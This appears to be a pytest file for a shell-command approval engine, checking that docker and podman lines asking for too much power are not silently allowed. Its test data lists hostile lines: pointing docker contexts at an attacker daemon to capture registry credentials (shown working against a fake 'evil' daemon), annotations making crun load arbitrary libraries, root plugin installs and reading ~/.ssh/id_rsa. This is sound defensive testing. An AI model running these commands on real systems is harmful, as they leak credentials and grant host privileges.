"""Review BQ: container engine gaps under approvals the engine offered.

BQ1: `docker context create x --docker host=unix://…` (offered `docker context create`)
points the user's docker at a daemon the line names; the registry credentials of a later
approved `docker pull` go to whoever listens there (real docker 28: a fake daemon got
`X-Registry-Auth` with the password). `podman system connection add|default` likewise.
BQ2: `--annotation run.oci.seccomp.plugins=PATH` makes crun dlopen PATH on this machine
(`run.oci.hooks.stdout=FILE` appends to FILE, crun 1.8.1's crun(1)); `--group-add
keep-groups` keeps the user's groups; `--gpus` hands the host's GPUs as `--device` does.
BQ3: `podman container restore --import` makes the container its archive describes,
and `docker plugin install` runs a root plugin with the privileges it asks for.
BQ4: `podman run --decryption-key ~/.ssh/id_rsa` read a key `podman pull` denies.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import socketserver
import subprocess
import threading
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from realrun import judge

from policylang import Verdict


@pytest.mark.parametrize(
    ("line", "approval"),
    [
        ("docker context create x --docker host=unix:///tmp/x.sock", "docker context create"),
        ("docker context create x --docker host=tcp://203.0.113.5:2375", "docker context"),
        ("docker context update default --docker host=unix:///tmp/x.sock", "docker context update"),
        ("docker context import x ctx.tar", "docker context import"),
        ("podman system connection add x unix:///tmp/x.sock", "podman system connection"),
        ("podman system connection default x", "podman system connection"),
        ("podman run --annotation run.oci.seccomp.plugins=/tmp/p.so alpine", "podman run"),
        ("podman run --annotation=run.oci.hooks.stdout=/tmp/o alpine", "podman run"),
        ("podman create --annotation io.podman.annotations.label=disable alpine", "podman create"),
        ("docker run --annotation org.criu.config=/tmp/c alpine", "docker run"),
        ("podman run --group-add keep-groups alpine id", "podman run"),
        ("docker run --gpus all alpine", "docker run"),
        ("podman container run --gpus=all alpine", "podman container run"),
        ("podman container restore --import ckpt.tar.gz", "podman container restore"),
        ("podman container restore -i ckpt.tar.gz", "podman container restore"),
        ("podman container restore --import=ckpt.tar.gz", "podman container restore"),
        ("docker plugin install --grant-all-permissions vieux/sshfs", "docker plugin install"),
        ("docker plugin install vieux/sshfs", "docker plugin"),
        ("podman run --decryption-key ~/.ssh/id_rsa alpine", "podman run"),
    ],
)
def test_asks_under_the_approval(tmp_path: Path, line: str, approval: str) -> None:
    decision = judge(line, tmp_path, approval)
    assert decision.verdict is not Verdict.ALLOW, decision.explain()
    assert judge(line, tmp_path).suggested_rule is None, line


@pytest.mark.parametrize(
    ("line", "offer"),
    [
        ("podman run --rm alpine echo hi", "podman run"),
        ("docker ps", "docker ps"),
        ("podman pod create p", "podman pod create"),
        ("podman run --annotation team=web --rm alpine echo hi", "podman run"),
        ("podman run --group-add 1000 --rm alpine echo hi", "podman run"),
        ("docker context ls", "docker context ls"),
        ("docker context use other", "docker context use"),
        # any `container restore` asks since review HN6 (a checkpoint image)
        ("podman container checkpoint c", "podman container checkpoint"),
        ("docker plugin ls", "docker plugin ls"),
    ],
)
def test_ordinary_uses_keep_their_offer(tmp_path: Path, line: str, offer: str) -> None:
    decision = judge(line, tmp_path)
    assert decision.verdict is Verdict.ASK, decision.explain()
    assert decision.suggested_rule == offer, decision.explain()
    assert judge(line, tmp_path, offer).verdict is Verdict.ALLOW, line


class _FakeDaemon(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True
    seen: list[str]

    def get_request(self) -> tuple[socket.socket, tuple[str, int]]:
        request, _ = super().get_request()
        return request, ("local", 0)


class _Handler(BaseHTTPRequestHandler):
    def _answer(self) -> None:
        assert isinstance(self.server, _FakeDaemon)
        self.server.seen.append(self.headers.get("X-Registry-Auth") or "")
        body = b"{}"
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Api-Version", "1.41")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_GET = do_POST = do_HEAD = _answer

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_real_docker_sends_credentials_to_the_context_daemon(tmp_path: Path) -> None:
    line = f"docker context create evil --docker host=unix://{tmp_path}/d.sock"
    assert judge(line, tmp_path, "docker context create").verdict is not Verdict.ALLOW
    docker = shutil.which("docker")
    if docker is None:
        pytest.skip("the premise needs the docker CLI")
    home = tmp_path / "home"
    (home / ".docker").mkdir(parents=True)
    auths = {"auths": {"registry.example.com": {"auth": "dXNlcjpDQU5BUllfQlE="}}}
    (home / ".docker" / "config.json").write_text(json.dumps(auths))
    server = _FakeDaemon(str(tmp_path / "d.sock"), _Handler)
    server.seen = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home)}
    try:
        for args in (line.split()[1:], ["context", "use", "evil"],
                     ["pull", "registry.example.com/x"]):
            subprocess.run([docker, *args], env=env, capture_output=True, timeout=30)
    finally:
        server.shutdown()
        server.server_close()
    assert any("CANARY_BQ" in _decoded(value) for value in server.seen), server.seen


def _decoded(value: str) -> str:
    try:
        return base64.urlsafe_b64decode(value + "=" * (-len(value) % 4)).decode()
    except ValueError:
        return ""
